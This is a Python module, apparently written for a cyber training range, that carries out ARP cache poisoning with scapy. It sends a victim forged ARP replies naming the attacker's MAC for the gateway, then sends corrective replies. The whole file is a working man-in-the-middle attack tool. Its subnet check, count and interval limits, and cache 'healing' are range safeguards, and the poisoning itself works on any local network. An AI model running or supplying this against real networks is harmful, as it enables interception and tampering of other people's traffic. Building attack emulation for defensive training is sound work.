"""ARP cache poisoning crafted with scapy (ATT&CK T1557.002), bounded in count and time.

Run inside the attacker namespace by the ``arp_spoof`` technique::

    python -m training.range.arpspoof --iface eth0 --victim 10.77.1.21 --spoof 10.77.1.1 \
        --count 60 --interval 0.2

It sends ``count`` unsolicited ARP replies to the victim claiming that ``spoof`` (the gateway) is at
the attacker's MAC address, one every ``interval`` seconds, then sends three corrective replies with
the real MAC of ``spoof`` so the victim's cache heals. Only addresses on the attacker's own
interface subnet are accepted.
"""

from __future__ import annotations

import argparse
import ipaddress
import logging
import time

log = logging.getLogger(__name__)


def _iface_network(iface: str) -> ipaddress.IPv4Interface:
    import subprocess

    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", iface],
                         capture_output=True, text=True, check=True).stdout.split()
    if "inet" not in out:
        raise ValueError(f"iface={iface!r} has no IPv4 address")
    return ipaddress.IPv4Interface(out[out.index("inet") + 1]).network


def spoof(iface: str, victim: str, spoof_ip: str, count: int, interval: float) -> int:
    """Poison ``victim``'s ARP entry for ``spoof_ip``; return the number of packets sent.

    Raises
    ------
    ValueError
        When ``count`` < 1, ``interval`` < 0, or an address is not on ``iface``'s subnet.
    """
    from scapy.all import ARP, Ether, get_if_hwaddr, getmacbyip, sendp

    if count < 1:
        raise ValueError(f"count={count!r}; expected >= 1")
    if interval < 0:
        raise ValueError(f"interval={interval!r}; expected >= 0")
    net = _iface_network(iface)
    for name, value in (("victim", victim), ("spoof", spoof_ip)):
        if ipaddress.ip_address(value) not in net:
            raise ValueError(f"{name}={value!r} is outside {iface}'s subnet {net}; refusing")
    me = get_if_hwaddr(iface)
    victim_mac = getmacbyip(victim) or "ff:ff:ff:ff:ff:ff"
    real_mac = getmacbyip(spoof_ip)
    poison = Ether(src=me, dst=victim_mac) / ARP(op=2, hwsrc=me, psrc=spoof_ip, hwdst=victim_mac, pdst=victim)
    sent = 0
    for _ in range(count):
        sendp(poison, iface=iface, verbose=False)
        sent += 1
        time.sleep(interval)
    if real_mac:
        heal = Ether(src=me, dst=victim_mac) / ARP(op=2, hwsrc=real_mac, psrc=spoof_ip,
                                                     hwdst=victim_mac, pdst=victim)
        sendp(heal, iface=iface, count=3, inter=0.1, verbose=False)
    log.info("sent %d poisoned ARP replies to %s (%s is-at %s)", sent, victim, spoof_ip, me)
    return sent


def main(argv: list[str] | None = None) -> None:
    """Command-line entry point (see module docstring)."""
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--iface", required=True)
    p.add_argument("--victim", required=True)
    p.add_argument("--spoof", required=True)
    p.add_argument("--count", type=int, default=60)
    p.add_argument("--interval", type=float, default=0.2)
    a = p.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(name)s: %(message)s")
    spoof(a.iface, a.victim, a.spoof, a.count, a.interval)


if __name__ == "__main__":
    main()
